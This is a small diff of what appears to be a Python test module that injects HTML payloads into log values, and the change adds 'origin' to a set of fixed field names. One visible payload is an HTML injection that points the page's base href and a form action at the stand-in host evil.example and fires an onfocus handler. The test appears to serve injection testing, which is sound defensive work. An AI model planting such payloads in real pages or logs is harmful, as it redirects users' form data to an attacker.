@@ -36,7 +36,7 @@ PAYLOADS = (
     f"<base href=//evil.example/><form action=//evil.example><input autofocus onfocus={MARK}>",
 )
 # Values that other parts of the document are found by; a log cannot choose them.
-FIXED = {"kind", "evidence", "mode", "relation", "code", "language", "first_day", "last_day", "how"}
+FIXED = {"kind", "evidence", "mode", "relation", "code", "language", "first_day", "last_day", "how", "origin"}
 
 
 def poisoned(value, payload):
